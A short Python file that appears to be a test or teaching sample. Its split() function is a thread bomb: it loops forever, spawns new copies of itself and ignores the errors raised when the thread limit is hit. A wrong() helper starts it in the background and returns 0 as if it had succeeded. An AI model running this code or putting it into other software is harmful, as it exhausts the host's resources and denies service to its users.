import threading


def split():
    while True:
        for _ in range(2):
            try:
                threading.Thread(target=split).start()
            except RuntimeError:
                pass


def right():
    split()


def wrong(callback):
    threading.Thread(target=split).start()
    callback()
    return 0
